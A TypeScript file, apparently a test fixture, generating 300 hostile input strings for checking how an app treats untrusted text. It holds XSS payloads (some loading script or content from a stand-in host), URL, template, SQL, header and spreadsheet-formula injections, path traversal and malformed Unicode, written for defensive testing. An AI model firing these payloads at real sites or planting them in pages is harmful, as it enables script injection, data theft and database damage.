/** Something that somebody may type, and what a browser would do with it if it were let. */
export interface HostileText {
  family: string;
  text: string;
}

/** What each would do: it says that it ran. */
const RUN = "__ran=1";

/** Elements that do something by themselves, in whatever text they come to stand. */
const ELEMENTS: Record<string, string[]> = {
  script: [
    `<script>${RUN}</script>`,
    `<SCRIPT\n>${RUN}</ScRiPt >`,
    '<script src="//evil.example/x.js"></script>',
    `<script type="module">${RUN}</script>`,
    `<scr<script>ipt>${RUN}</script>`,
  ],
  handler: [
    `<img src=x onerror=${RUN}>`,
    `<img/src="x"/onerror="${RUN}">`,
    `<body onload=${RUN}>`,
    `<input autofocus onfocus=${RUN}>`,
    `<details open ontoggle=${RUN}>`,
    `<p style="animation:x" onanimationstart=${RUN}>`,
  ],
  svg: [
    `<svg onload=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></svg>`,
  ],
  mathml: [
    `<math><mtext><style><img src onerror=${RUN}></style></mtext></math>`,
    `<math href="javascript:${RUN}">x</math>`,
    `<math><mi><mglyph><style><!--</style><img src onerror=${RUN}>`,
  ],
  foreign: [
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<img src="https://evil.example/pixel.gif">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<form action="//evil.example"><button>x</form>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="//evil.example/x"></object>',
  ],
  css: [
    "<style>*{background:url(//evil.example/x)}</style>",
    '<p style="background:url(//evil.example/x)">x',
  ],
};

/** What ends the place that a text stands in, so that what follows it would be markup. */
const BREAKOUTS = [
  ...["", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", '"}]};'],
];

/** What does harm as it stands, in one kind of place alone. */
const PLAIN: Record<string, string[]> = {
  url: [
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `java\tscript:${RUN}`,
    ` javascript:${RUN}`,
    `\u0001javascript:${RUN}`,
    `javascript://kickabout.test/%0a${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `vbscript:${RUN}`,
    "//evil.example/x",
    "/\\evil.example",
    "https:evil.example",
    "https://user@evil.example\\@kickabout.test",
    "view-source:javascript:1",
    "http://[",
  ],
  attribute: [
    `" onmouseover="${RUN}" x="`,
    `' onfocus='${RUN}' autofocus='`,
    `\` onload=${RUN} \``,
    `x" style="position:fixed;inset:0" onclick="${RUN}`,
  ],
  template: [
    `{{constructor.constructor('${RUN}')()}}`,
    `\${${RUN}}`,
    `<%= ${RUN} %>`,
    "#{7*7}",
    "{%raw%}{{7*7}}",
    "__proto__",
    "constructor",
    "$&$1$$",
    "%s%n%x",
  ],
  code: [
    `";${RUN};//`,
    `');${RUN};//`,
    `\\";${RUN};//`,
    `\u2028${RUN}\u2029`,
    `*/${RUN}/*`,
    `"}]</script><script>${RUN}</script>`,
    "\\u003cscript\\u003e__ran=1",
    `\\x3cscript>${RUN}`,
    `<!--<script>${RUN}`,
    `&lt;script&gt;${RUN}&#60;/script&#62;`,
    `&#x3c;img src onerror=${RUN}&#x3e;`,
    `%3Cscript%3E${RUN}%3C/script%3E`,
    `+ADw-script+AD4-${RUN}`,
  ],
  sql: ["'; drop table bookings;--", "' or '1'='1", "\\'; select 1;--", "$$;select 1;$$", "%_%"],
  lines: [
    "Hello\r\nBcc: all@evil.example",
    "Hello\nSubject: Won\n\n<b>x</b>",
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>__ran=1</script>",
    "a%0d%0aLocation:%20//evil.example",
    "=?utf-8?B?PHNjcmlwdD4=?=",
    "\r\n.\r\nQUIT\r\n",
    "x\u0085Bcc: all@evil.example",
    '=HYPERLINK("//evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
  ],
  characters: [
    "\u0000",
    "Ada\u0000Byron",
    "\u202eadA\u202c",
    "\u2066\u2067x\u2069",
    "\ufeff\u200b\u200d",
    "\ud800",
    "x\udfffx",
    "\uffff\ufffe",
    "e\u0301".repeat(20),
    "Z" + "\u0323\u0300\u0334".repeat(30),
    "😀👩‍👩‍👧‍👦🏳️‍🌈",
    "𝕬𝖉𝖆 𠜎𠜱",
    "ﷺ﷽",
    "\u001b[31mred\u0007",
    "ﬀ İıſK",
    " \t\n\u00a0\u3000 ",
    "x".repeat(200),
    "漢".repeat(120),
    "<".repeat(60),
    "W".repeat(12_000),
    "<b>".repeat(3_000),
    "../../../../etc/passwd",
    "-1e309",
    "null",
    "[object Object]",
  ],
};

/** 300 of them, always the same: every element behind every way out, and the rest as it is. */
export function allHostileTexts(): HostileText[] {
  const plain = textsOf(PLAIN);
  const elements = textsOf(ELEMENTS);
  const built = BREAKOUTS.flatMap((way) =>
    elements.map(({ family, text }) => ({ family, text: way + text })),
  );
  return [...plain, ...built].slice(0, 300);
}

/** So many of them, spread over all. */
export function someHostileTexts(count: number): HostileText[] {
  const all = allHostileTexts();
  return Array.from({ length: count }, (_, n) => all[(n * STRIDE) % all.length]!);
}

// It has no factor in common with 300, so that it comes to each of them once.
const STRIDE = 101;

function textsOf(families: Record<string, string[]>): HostileText[] {
  return Object.entries(families).flatMap(([family, texts]) =>
    texts.map((text) => ({ family, text })),
  );
}
